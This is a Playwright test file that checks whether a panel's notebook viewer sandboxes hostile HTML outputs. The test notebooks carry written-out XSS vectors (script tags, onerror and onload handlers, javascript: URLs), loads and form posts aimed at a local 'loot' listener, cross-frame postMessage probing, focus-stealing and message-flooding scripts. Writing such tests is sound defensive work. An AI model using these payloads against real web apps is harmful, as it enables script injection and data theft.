// Attacks from inside the HTML outputs of a notebook, which the page shows in frames.
import type { Frame, Page } from '@playwright/test';
import { item } from './editor-page.ts';
import { expectHarmless, expectNoEffect, listenFor, openOther } from './hostile-frame.ts';
import { button, composer, editor, open } from './page.ts';
import { expect, test } from './panel.ts';

test.use({
  panelOptions: { files: { 'a.txt': 'text', 'worker.js': 'self.addEventListener("fetch", () => {});' } },
});

const notebookOf = (...html: string[]): string =>
  JSON.stringify({
    nbformat: 4,
    cells: [
      {
        cell_type: 'code',
        source: 'f()',
        outputs: html.map((each) => ({
          ...{ output_type: 'display_data', metadata: {} },
          data: { 'text/html': each },
        })),
      },
    ],
  });

/** The frame of the only output of the notebook in the editor. */
async function outputOf(page: Page, file: string, text: string): Promise<Frame> {
  await item(page, file).press('Enter');
  const iframe = editor(page).locator('iframe');
  await expect(iframe.contentFrame().getByText(text)).toBeVisible();
  await expect(page).toHaveURL(new RegExp(`file=${file}`));
  return (await (await iframe.elementHandle()).contentFrame())!;
}

test('S-74, S-75: nothing of a hostile notebook runs when it is opened, and none of its HTML leads or reaches anywhere', async ({
  page,
  panel,
  context,
}) => {
  const loot = await listenFor();
  const out = `http://127.0.0.1:${loot.port}`;
  await panel.write('own.js', 'document.title = "ran"; top.postMessage("ran", "*")');
  await panel.write(
    'evil.ipynb',
    notebookOf(`<p>hostile</p><script>document.title = 'ran'</script><script src="own.js"></script>
      <script src="${out}/script.js"></script><script src="-pi-panel/frame.js"></script>
      <img src="x" onerror="document.title = 'ran'"><img src="${out}/image"><svg onload="document.title = 'ran'"></svg>
      <iframe srcdoc="<script>top.document.title = 'ran'</script>"></iframe><iframe src="${out}/frame"></iframe>
      <iframe src="javascript:parent.document.title = 'ran'"></iframe><object data="${out}/object"></object>
      <embed src="${out}/embed"><video src="${out}/video" autoplay></video><base href="${out}/" target="_top">
      <link rel="stylesheet" href="${out}/style.css"><link rel="preconnect" href="${out}"><link rel="prefetch" href="${out}/prefetch">
      <style>@import '${out}/import'; p { background: url(${out}/css) } body { position: fixed; inset: -5000px }</style>
      <form id="form" action="${out}/form" target="_top"><button>send</button></form>
      <a id="top" href="${out}/top" target="_top">top</a><a id="blank" href="${out}/blank" target="_blank">blank</a>
      <a id="script" href="javascript:document.title = 'ran'">script</a>
      <a id="panel" href="${panel.origin}/" target="_self">panel</a>`),
  );
  await open(page, panel);
  const evil = await outputOf(page, 'evil.ipynb', 'hostile');
  const before = page.url();
  for (const id of ['top', 'blank', 'script'])
    await evil.locator(`#${id}`).evaluate((link: HTMLElement) => link.click());
  await evil.locator('#form button').evaluate((send: HTMLElement) => send.click());
  await page.waitForTimeout(800);
  expect(await evil.title()).toBe('');
  expect(await page.title()).not.toBe('ran');
  await evil.locator('#panel').evaluate((link: HTMLElement) => link.click());
  await page.waitForTimeout(800);
  await expect(editor(page).locator('iframe').contentFrame().locator('#app')).toHaveCount(0);
  expect(page.url()).toBe(before);
  expect(context.pages()).toHaveLength(1);
  expect(loot.heard).toEqual([]);
  await expect(composer(page)).toBeVisible();
  await expectNoEffect(panel);
  loot.close();
});

test('S-74, S-75: scripts of a notebook that the user runs reach neither the panel nor the page, its storage or the network', async ({
  page,
  panel,
  context,
}) => {
  const loot = await listenFor();
  await panel.write(
    'evil.ipynb',
    notebookOf('<p>hostile</p><script>document.body.dataset.ran = ""</script>'),
  );
  await open(page, panel);
  const { agent, other } = await openOther(panel);
  await outputOf(page, 'evil.ipynb', 'hostile');
  await button(editor(page), 'Run scripts').click();
  await expect(editor(page).locator('iframe').contentFrame().locator('body[data-ran]')).toBeVisible();
  const evil = await (await editor(page).locator('iframe').elementHandle()).contentFrame();
  await expectHarmless(evil!, { page, panel, agent, other, loot });
  expect(context.pages()).toHaveLength(1);
  expect(await context.cookies()).toEqual([]);
  await expect(editor(page).getByRole('region', { name: 'Preview' })).toBeVisible();
  await expectNoEffect(panel);
  loot.close();
});

test('S-74: an output of a notebook takes orders from the page only, and not from another output', async ({
  page,
  panel,
}) => {
  await panel.write(
    'two.ipynb',
    notebookOf(
      `<p>hostile</p><p id="said">nothing</p><script>
        for (let n = 0; n < parent.length; n++) {
          const { port1, port2 } = new MessageChannel();
          port1.onmessage = ({ data }) => (document.getElementById('said').textContent = JSON.stringify(data));
          parent.frames[n].postMessage('pi-panel-frame', '*', [port2]);
          port1.postMessage(JSON.stringify({ type: 'look' }));
        }
        document.body.dataset.ran = parent.length;</script>`,
      '<p>another</p>',
    ),
  );
  await open(page, panel);
  await item(page, 'two.ipynb').press('Enter');
  await button(editor(page), 'Run scripts').click();
  const first = editor(page).locator('iframe').first().contentFrame();
  await expect(editor(page).locator('iframe').last().contentFrame().getByText('another')).toBeVisible();
  await expect(first.locator('body[data-ran="2"]')).toBeVisible();
  await page.waitForTimeout(1000);
  await expect(first.locator('#said')).toHaveText('nothing');
});

test('S-76: the HTML of a notebook does not take the keyboard, and cannot flood the page', async ({
  page,
  panel,
}) => {
  await panel.write(
    'keys.ipynb',
    notebookOf(`<p>hostile</p><input id="trap" autofocus><script>
      setInterval(() => { window.focus(); document.getElementById('trap').focus(); }, 20);</script>`),
  );
  await panel.write(
    'flood.ipynb',
    notebookOf(`<p>hostile</p><script>
      setInterval(() => { for (let i = 0; i < 100; i++) parent.postMessage('noise', '*'); }, 10);</script>`),
  );
  await open(page, panel);
  await outputOf(page, 'keys.ipynb', 'hostile');
  await composer(page).click();
  await page.keyboard.type('a password');
  await expect(composer(page)).toHaveValue('a password');
  await button(editor(page), 'Run scripts').click();
  await expect(editor(page).getByRole('alert')).toContainText('kept taking the keyboard');
  await outputOf(page, 'flood.ipynb', 'hostile');
  await button(editor(page), 'Run scripts').click();
  await expect(editor(page).getByRole('alert')).toContainText('too many messages');
  await expect(editor(page).locator('iframe')).toHaveCount(0);
  await composer(page).fill('still here');
  await expect(composer(page)).toHaveValue('still here');
});
